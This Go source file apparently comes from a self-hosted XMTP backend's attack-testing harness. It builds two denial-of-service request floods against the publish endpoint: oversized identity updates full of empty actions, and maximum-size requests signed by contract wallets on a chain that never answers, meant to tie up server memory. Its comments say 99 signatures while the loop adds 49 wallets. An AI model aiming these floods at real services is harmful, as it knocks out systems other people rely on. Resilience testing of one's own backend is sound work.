package attack

import (
	"bytes"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"google.golang.org/protobuf/encoding/protowire"

	"github.com/xmtp-selfhosted/backend/pkg/association/associationtest"
	"github.com/xmtp-selfhosted/backend/pkg/testkit"
	backendv1 "github.com/xmtp-selfhosted/backend/proto/gen/xmtp/backend/v1"
	associations "github.com/xmtp-selfhosted/backend/proto/gen/xmtp/identity/associations"
)

// publishAttacks are requests that cost more than they look.
var publishAttacks = []Attack{
	{Name: "empty-actions", Faults: "A2", What: "150 identity updates of half a million actions that say nothing, at once, every second", run: emptyActions},
	{Name: "greedy-request", Faults: "A3", What: "a request of 25 MiB of empty envelopes and 99 contract signatures, whose chain is silent, 4 at a time", run: greedyRequest},
}

// Field numbers of the requests that are put together by hand.
const (
	envelopesField, identityUpdateField = 1, 4 // of PublishRequest and ClientEnvelope
)

func nested(field protowire.Number, content []byte) []byte {
	return protowire.AppendBytes(protowire.AppendTag(nil, field, protowire.BytesType), content)
}

// nothing is half of a field that says nothing: 1, of length 0.
var nothing = []byte{0x0a, 0x00}

// emptyUpdate is an update of one MiB, all of whose actions are empty.
var emptyUpdate = sync.OnceValue(func() []byte {
	inbox := encoded(&associations.IdentityUpdate{InboxId: testkit.New(1).Client().InboxID})
	actions := bytes.Repeat(nothing, (1<<20-1024)/len(nothing))
	return nested(envelopesField, nested(identityUpdateField, append(inbox, actions...)))
})

func emptyActions(c *crowd) { c.published(2, 75, func() []byte { return framed(emptyUpdate()) }) }

// published sends the requests that request makes, so many at a time on each
// connection, and again a second later.
func (c *crowd) published(connections, atOnce int, request func() []byte) {
	header := c.header(publish)
	c.comes(connections, 100*time.Millisecond, 65535, true, func(h *connection) {
		body := request()
		h.places = make(chan struct{}, atOnce)
		var sending sync.WaitGroup
		for range atOnce {
			sending.Go(func() {
				for {
					if id := h.open(header); id == 0 || !h.send(id, body, true) && h.isOver() || !c.rest(time.Second) {
						return
					}
				}
			})
		}
		sending.Wait()
	})
}

// SilentChain is the chain of the wallets of greedy requests. Whoever is attacked
// has an endpoint for it that does not answer.
const SilentChain = "eip155:31337"

// greedyRequest wants all memory that there is for requests and keeps it while a
// chain is asked.
func greedyRequest(c *crowd) {
	var visit atomic.Int64
	c.published(4, 1, func() []byte {
		request := encoded(&backendv1.PublishRequest{Envelopes: []*backendv1.ClientEnvelope{testkit.Identity(contractInbox(visit.Add(1)))}})
		room := largestMessage - len(request) - 1024
		return framed(append(request, bytes.Repeat(nothing, room/len(nothing))...))
	})
}

// contractInbox is an update signed 99 times by contract wallets.
func contractInbox(i int64) *associations.IdentityUpdate {
	creator := associationtest.NewContractWallet(fmt.Sprintf("greedy %d", i), SilentChain, 1)
	update := associationtest.NewUpdate(associationtest.InboxID(creator, 1), uint64(time.Now().UnixNano())).Create(creator, 1)
	for n := range 49 {
		update.Add(creator, associationtest.NewContractWallet(fmt.Sprintf("greedy %d, %d", i, n), SilentChain, 1))
	}
	return update.Update()
}
